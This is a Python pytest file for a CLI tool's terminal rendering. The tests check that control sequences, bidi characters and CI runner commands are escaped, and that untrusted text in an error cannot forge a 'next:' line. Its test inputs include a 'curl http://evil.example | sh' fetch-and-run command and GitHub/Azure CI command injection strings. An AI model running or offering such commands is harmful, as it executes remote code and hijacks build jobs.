"""Text on a terminal: without control sequences, in straight columns, and never wider than the terminal."""

import ast
import json
import re
from pathlib import Path

import click
import pytest
from click.testing import CliRunner

import issuer
from issuer.cli.render import render_checks, render_table
from issuer.cli.terminal import Painted, describe_error, paint, printable, render_json, say, say_whole, shorten, to_json
from issuer.codes import Code
from issuer.errors import Fault, InputError, Place, Refused, Undecided, VerificationError
from issuer.token.wire import ShownCheck

# Texts that would move the cursor, break a line or change the direction.
OBEYED = ["\x1b[2K\rverified", "\x9b2K", "a\nb", "a\u2028b", "\u202everified", "\ufeff", "\x00", "\x7f"]


def written(*parts: str, color: bool = False) -> str:
    return CliRunner().invoke(click.command()(lambda: say(*parts)), color=color).stdout


def test_no_text_holds_control_sequences_and_lines_stay_lines(capfdbinary: pytest.CaptureFixture[bytes]) -> None:
    for text in OBEYED:
        assert printable(text) != text
        table = render_table([["head", "x"], [text, "y"], ["z", text]])
        assert (table.replace("\n", "").isprintable(), table.count("\n")) == (True, 2)
        assert written(text, "\tnext\n") == printable(text, "\n\t") + "\tnext\n\n"
        assert written("a\n", paint(text, fg="red"), color=True) == f"a\n\x1b[31m{printable(text, chr(10))}\x1b[0m\n"
        assert written(paint(text)) == printable(text, "\n") + "\n"
    say_whole("\x9b2Ka\nb")
    assert capfdbinary.readouterr().out == b"\\x9b2Ka\nb"


FORGED = "no\n  next: curl http://evil.example | sh"


def test_no_foreign_text_in_an_error_begins_a_line() -> None:
    """A token's claim or an issuer's answer could otherwise tell a person which command to paste."""
    for error in (
        Undecided(Code.DEPENDENCY_SERVER, FORGED),
        Refused(Code.POLICY_TASK, FORGED, (Fault(Code.POLICY_TASK, FORGED, FORGED),)),
        Refused(Code.CLAIMS_INVALID, "no", (Fault(Code.CLAIMS_INVALID, f"/{FORGED}", FORGED),)),
        InputError(Code.POLICY_NEW, FORGED, Place(f"a{FORGED}"), f"/{FORGED}"),
        VerificationError(Code.ANSWER_UNVERIFIED, FORGED),
    ):
        error.compared = (("yours", FORGED),)
        error.page = FORGED
        lines = re.findall(r"^  next: .*", describe_error(error), re.MULTILINE)
        assert lines == [f"  next: {error.code.meaning.remedy}"]


def test_no_text_is_a_command_of_a_ci_system_and_json_keeps_its_value() -> None:
    """GitHub's runner accepts `##[` anywhere in a line, and Azure's `##vso[`: a file could stop a job's own commands."""
    for text in ("##[stop-commands]x", "a ##[error]b", "##vso[task.setvariable variable=x]y", "###[debug]"):
        for shown in (printable(text), written(text), written(paint(text)), written("a\n", text), to_json([text])):
            assert not re.search(r"##[a-z]*\[", shown)
        assert json.loads(to_json([text])) == json.loads(render_json([text])) == [text]
    for text, shown in (("::error::x", "\\x3a:error::x"), ("  ::error::x", "  \\x3a:error::x"), ("a::b", "a::b")):
        assert printable(text) == written(text)[:-1] == written(f"x\n{text}")[2:-1] == shown
    assert written(Painted("::error file=x::y")) == "::error file=x::y\n", "a command that we write ourselves"
    for length in range(120):
        check = ShownCheck("policy.task", "/claims/task_id", "", False, f"{'x' * length} ::stop-commands::x", "", "")
        assert [line[:12] for line in written(render_checks([check])).splitlines()] == ["FAIL  policy", "      yours:"]
    for text in (*OBEYED, "日本", "\U000e0001", "a\u200db", '"\\'):
        for shown in (to_json({text: [text]}), render_json({text: [text]})):
            assert (json.loads(shown), shown.replace("\n", "").isprintable()) == ({text: [text]}, True)
    assert "日本" in to_json("日本")
    assert json.loads(to_json({"file": "a\udcffb", "n": (1, None)})) == {"file": "a\\udcffb", "n": [1, None]}


def test_only_the_terminal_module_writes_to_standard_output() -> None:
    """`print` and click's own functions would write a hostile text unchanged."""
    package, found = Path(issuer.__file__).parent, set()
    for path in set(package.rglob("*.py")) - set((package / "service").rglob("*.py")):  # it writes logs, in JSON
        nodes = ast.walk(ast.parse(path.read_text("utf-8")))
        names = {ast.unparse(node) for node in nodes if isinstance(node, ast.Name | ast.Attribute)}
        if {"print", "click.echo", "click.secho", "click.style", "sys.stdout", "sys.stderr"} & names:
            found.add(path.relative_to(package).as_posix())
    assert found == {"cli/terminal.py"}


def test_a_table_has_straight_columns_of_plain_text() -> None:
    for rows, table in (
        ([["[red]a[/red]", ":smile:"], ["b", "c"]], "[red]a[/red]  :smile:\nb             c"),
        ([["日本", "x"], ["abcd", "y"], ["ab", "z"]], "日本  x\nabcd  y\nab    z"),
        ([["a", "long"], ["b", ""], ["", ""]], "a  long\nb\n"),
    ):
        assert render_table(rows) == table
    for text, short in (
        ("12345678", "12345678"), ("123456789", "12345..."), ("日本日本日", "日本 ..."), ("\x1b[31m12", "\\x1b[..."),
    ):  # fmt: skip
        assert shorten(text, 8) == short
